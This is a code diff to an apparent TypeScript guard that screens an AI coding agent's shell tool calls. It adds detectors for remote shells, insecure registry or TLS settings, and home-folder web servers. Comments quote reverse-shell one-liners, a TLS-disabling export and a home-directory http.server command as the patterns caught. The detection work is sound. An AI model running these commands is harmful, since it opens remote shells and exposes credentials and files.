@@ -23,11 +23,14 @@ import { stdinTclLines } from './launcher-shapes.ts';
 import { resolvePath } from './paths.ts';
 import type { Policy } from './policy.ts';
 import { type PrLookup, type PrState, prFinding } from './pr-gate.ts';
+import { checkRemoteShells } from './remote-shells.ts';
 import { checkMovedAway, checkRemoval } from './removal.ts';
 import { actorEnv, axmeCommand, gitBypasses, gitConfigEnv } from './self-rules.ts';
+import { checkServedFolder } from './served-folders.ts';
 import { isDynamic, MAX_DEPTH, parseShell, type SimpleCommand } from './shell.ts';
 import { substitutedScripts } from './substituted-scripts.ts';
 import { programIndex } from './syntax.ts';
+import { checkTransportSettings } from './transport-settings.ts';
 import { COMMAND_COST, charge, OUT_OF_BUDGET, type WorkBudget, workBudget } from './work-budget.ts';
 
 /** A tool call as the agent harness reports it (Claude Code's `tool_name` and `tool_input`). */
@@ -282,6 +285,9 @@ function walkScript(src: string, w: Walk, depth: number): void {
   }
   const p = checkPipelines(piped, fed, w.policy) ?? checkExfiltration(lineStages.length ? [...piped, ...lineStages] : piped);
   if (p) w.findings.push(p);
+  // `bash -i >& /dev/tcp/h/p 0>&1`, `nc -e /bin/sh h p`, `cat f | sh | nc h p`: a shell bound to a socket (remote-shells.ts)
+  const remote = checkRemoteShells(script.commands, (c) => runsOf.get(c)?.[0] ?? null);
+  if (remote) w.findings.push(remote);
 }
 
 /** A stage that runs the command line it is handed, as an invocation of its first word (`eval`, `watch`): what printsEnvironment reads. */
@@ -391,6 +397,10 @@ function checkCommand(cmd: SimpleCommand, inv: Invocation | null, w: Walk, depth
     add(checkMovedAway(inv, { ...bctx, cwd: w.fallback }));
   }
   add(axmeCommand(inv));
+  // `npm config set registry http://…`, `export NODE_TLS_REJECT_UNAUTHORIZED=0`: a setting that sends credentials or code elsewhere (transport-settings.ts)
+  add(checkTransportSettings(cmd, inv));
+  // `python3 -m http.server -d ~`, `cd ~ && npx serve`: the home folder served to whoever reaches the port (served-folders.ts)
+  add(checkServedFolder(inv, cwd, w.ctx.home));
   add(gitConfigEnv(cmd, inv));
   add(actorEnv(cmd, inv));
   // find -exec cmd ... ; runs cmd for each file
